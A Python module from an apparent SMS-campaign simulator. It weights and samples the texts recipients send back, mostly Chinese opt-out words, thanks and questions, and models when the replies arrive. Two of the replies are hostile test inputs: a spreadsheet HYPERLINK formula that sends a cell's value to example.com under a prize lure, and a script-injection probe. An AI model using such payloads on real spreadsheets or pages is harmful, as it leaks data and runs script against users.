"""What people write back, among it what no careful system expects."""

from __future__ import annotations

import numpy as np

from masanalytics.simulator.behaviour import Reply
from masanalytics.simulator.random_keys import Floats, Keys, normal, uniform

__all__ = ["TEXTS", "draw_replies"]

_WEIGHTED = {
    "T": 14,
    "TD": 7,
    "退订": 9,
    "R": 6,
    "t": 3,
    "td": 2,
    "Ｔ": 1,
    "ＴＤ": 2,
    " TD ": 1,
    "N": 2,
    "QX": 1,
    "0000": 1,
    "T退订": 1,
    "怎么退订？": 2,
    "我要退订，谢谢": 1,
    "别再发了": 4,
    "再发我就投诉了": 2,
    "你们怎么有我的号码": 2,
    "骗子": 1,
    "谢谢": 6,
    "收到": 6,
    "好的": 5,
    "1": 4,
    "请问活动到什么时候？": 4,
    "门店在哪里？": 3,
    "怎么参加": 3,
    "我已经办过了": 2,
    "你发错人了，我不姓王": 1,
    "在开会，稍后联系": 2,
    "👍": 1,
    "嗯": 2,
    '=HYPERLINK("http://example.com/?u="&A1,"点我领奖")': 1,
    "<script>alert('你好')</script>": 1,
    "+86": 1,
}
TEXTS = tuple(_WEIGHTED)
"""Every text that can be written back."""

_CUMULATED = np.cumsum(list(_WEIGHTED.values())) / sum(_WEIGHTED.values())


def draw_replies(keys: Keys, received: Floats, share: float) -> tuple[Reply, ...]:
    """Return the replies to messages whose text arrived after `received` seconds (infinite: never).

    Half of them come within three minutes of the message, some the next day.
    """
    chosen = np.flatnonzero((uniform(keys, 40) < share) & np.isfinite(received))
    if not len(chosen):
        return ()
    writers = keys[chosen]
    after = received[chosen] + 5.0 + 170.0 * np.exp(1.4 * normal(writers, 41))
    texts = np.searchsorted(_CUMULATED, uniform(writers, 42), side="right")
    return tuple(
        Reply(index, seconds, TEXTS[text])
        for index, seconds, text in zip(chosen.tolist(), after.tolist(), texts.tolist(), strict=True)
    )
